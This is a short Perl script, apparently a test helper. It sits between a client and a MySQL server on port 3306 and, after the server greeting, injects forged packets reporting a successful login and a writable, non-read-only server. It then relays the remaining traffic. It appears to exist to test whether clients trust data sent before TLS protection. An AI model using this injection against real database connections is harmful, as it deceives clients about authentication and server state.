#!/usr/bin/perl
# Somebody on the way to a server who cannot read TLS, and says what the server should have said before it begins.
# Usage: tamper.pl ADDRESS PORT READY — passes one client of that port on to port 3306, and to the client, right
# behind the server's greeting, a login that went well and a server that is writable. Makes the file READY.
use strict;
use warnings;
use IO::Select;
use IO::Socket::INET;

my ($address, $port, $ready) = @ARGV;
alarm 30;

sub packet {
    my ($number, $body) = @_;
    return substr(pack('V', length $body), 0, 3) . chr($number) . $body;
}

my $ok = "\0\0\0\2\0\0\0";
my $end = "\xfe\0\0\2\0";
my $column = "\3def\0\0\0\x09read_only\0\x0c" . pack('vVCvCv', 63, 1, 8, 0, 0, 0);
my $forged = packet(3, $ok) . packet(1, "\1") . packet(2, $column) . packet(3, $end) . packet(4, "\0010") . packet(5, $end);

my $port_of_call = IO::Socket::INET->new(LocalAddr => $address, LocalPort => $port, Listen => 1) or die "listen: $!";
open my $mark, '>', $ready or die "$ready: $!";
my $client = $port_of_call->accept;
my $server = IO::Socket::INET->new(PeerAddr => $address, PeerPort => 3306) or die "connect: $!";

sysread $server, my $greeting, 65536;
syswrite $client, $greeting . $forged;
my $both = IO::Select->new($client, $server);
while (my @heard = $both->can_read) {
    for my $from (@heard) {
        sysread $from, my $said, 65536 or exit;
        syswrite $from == $client ? $server : $client, $said;
    }
}
